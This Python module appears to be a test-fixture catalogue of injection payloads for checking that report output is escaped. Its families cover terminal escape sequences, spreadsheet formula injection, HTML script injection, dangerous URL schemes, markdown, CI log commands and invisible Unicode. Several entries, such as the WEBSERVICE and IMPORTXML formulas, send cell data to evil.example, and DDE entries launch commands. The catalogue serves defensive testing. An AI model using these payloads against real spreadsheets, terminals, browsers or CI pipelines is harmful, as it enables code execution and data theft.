"""Texts that try to steer the program of whoever reads a report, by family. Made from lists, so that none is forgotten."""

from __future__ import annotations

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
C0_AND_C1 = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
BIDI = list("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

TERMINAL = [
    *(
        f"{ESC}[{code}"
        for code in ("2J", "31m", "6n", "5i", "?1049h", "H", "1A", "K", "?25l", "18t", "21t", ">c", "c", "?1000h", "8m")
    ),
    *(f"{ESC}]{code}{BEL}" for code in ("0;title", "2;title", "52;c;cm0gLXJm", "9;7;cmd", "4;1;?", "10;?", "50;?", "133;A")),
    *(f"{ESC}]{code}{ST}" for code in ("52;p;?", "52;;!", "1337;File=inline=1:AAAA", "777;notify;a;b", "7;file://x/etc")),
    f"{ESC}]8;;http://evil.example{ST}here{ESC}]8;;{ST}",
    "\x9d8;;http://evil.example\x9chere\x9d8;;\x9c",
    *(f"\x9d52;c;{body}\x9c" for body in ("cm0gLXJm", "?")),
    *(f"{ESC}{each}" for each in ("c", "(0", ")0", "#8", "7", "8", "=", ">", "D", "E", "M", "Z", "n", "o", "|")),
    *(f"{ESC}{opening}q544e{ST}" for opening in ("P+", "P$", "_", "^", "X")),
    *(
        "\x9b31m",
        "\x9d0;title\x9c",
        "\x90q\x9c",
        "\x9e1\x9c",
        "\x9f1\x9c",
        "\x981\x9c",
        "\r\x1b[K",
        "\x08\x08\x08",
        "\x0e",
        "\x0f",
    ),
]

FORMULAS = [
    f"{lead}{sign}{body}"
    for lead in ("", " ", "\t", "\u200b")
    for sign in "=+-@＝＋－＠"
    for body in ("1+1", "cmd|' /C calc'!A0")
] + [
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\r=1+1",
    "\n=1+1",
    '";=1+1;"',
    '",=1+1,"',
    "'=1+1",
    "−1+1",
    "%0A=1+1",
    "_x003D_1+1",
    "_x000A_=1+1",
    "_x001B_[2J",
]

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    *(
        f"<{tag} on{event}=alert(1)>"
        for tag in ("img src=x", "svg", "body", "input autofocus")
        for event in ("error", "load", "focus")
    ),
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="position:fixed',
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img>",
    "</mark></blockquote><iframe src=//evil.example>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "{{ 7*7 }}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "<a href='data:text/html,x'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>",
    "<math><mi xlink:href='javascript:alert(1)'>",
    "<style>*{background:url(//evil.example)}</style>",
    "expression(alert(1))",
    "url(javascript:alert(1))",
]

ADDRESSES = [
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///x",
        "//evil.example",
    ),
    *("http://evil.example", "https://user:pw@evil.example", "mailto:a@evil.example", "user@evil.example", "www.evil.example"),
]

MARKDOWN = [
    "![x](http://evil.example/x.png)",
    "[x](javascript:alert(1))",
    "[x](<http://evil.example>)",
    "[x][ref]",
    "[ref]: http://evil.example",
    "\n[ref]: http://evil.example\n",
    "<http://evil.example>",
    "`code` **bold** _em_ ~~gone~~",
    "***x***",
    "__x__",
    "| a | b |\n|---|---|",
    "a | b",
    "\\| x",
    "# heading\n\n## other",
    "\n===\n",
    "\n---\n",
    "\n\n    code block",
    "\n- item\n1. item",
    "\n* item",
    "\n+ item",
    "\n> quote",
    "```\nfence",
    "~~~\nfence",
    "\\<b\\>",
    "[^1]",
    "- [ ] task",
    "@user",
    "#123",
    "$x^2$",
    "<b>x</b>",
    ":smile:",
]

COMMANDS = [
    "::error file=a,line=1::x",
    "\n::set-output name=x::y",
    "\r::error::x",
    "\x85::error::x",
    "\u2028::error::x",
    "\u2029::error::x",
    "%0A::warning::x",
    "%0D%0A::error::x",
    "::stop-commands::token",
    "::add-mask::x",
    "\n::add-path::/x",
    ",line=1::x",
    "::",
    "##[error]x",
    "##[set-env name=PATH]x",
    "##vso[task.setvariable variable=x]y",
    "##VSO[task.logissue]y",
    "##teamcity[message text='x']",
    "###[x",
    "\n##[group]x",
]

MESSAGES = ["[x](1)", "[x](http://evil.example)", "{0}", "{1}", "{{0}}", "\\", "\\[", "]", "%SRCROOT%", "..\\..\\x", "../../x"]
MARKUP = [
    "[bold]x[/bold]",
    "[/nope]",
    "[red on blue]",
    "[link=http://evil.example]x[/link]",
    "[@click=app.quit]x",
    ":boom:",
    "[[x]]",
]
BREAKS = [
    "\n",
    "\r",
    "\r\n",
    "\v",
    "\f",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\n\n",
    '"\n"',
    '"\r\n=1+1',
    '","',
    '""',
    "'",
    ";",
    "\t",
]
ILLEGAL = [
    *(
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\ud800",
        "\udfff",
        "\udc80",
        "\ud83d",
        "\U0001fffe",
        "\U0010ffff",
        "\U000e0041",
        "\U000e0001",
    ),
    *(
        "\ufff9",
        "\ufffb",
        "\u00ad",
        "\u200b",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\u180e",
        "\u3164",
        "\u115f",
        "\ufe0f",
        "\u0300" * 40,
    ),
]

PAYLOADS = list(
    dict.fromkeys(
        [
            *TERMINAL,
            *FORMULAS,
            *HTML,
            *ADDRESSES,
            *MARKDOWN,
            *COMMANDS,
            *MESSAGES,
            *MARKUP,
            *BREAKS,
            *ILLEGAL,
            *C0_AND_C1,
            *BIDI,
        ]
    )
)
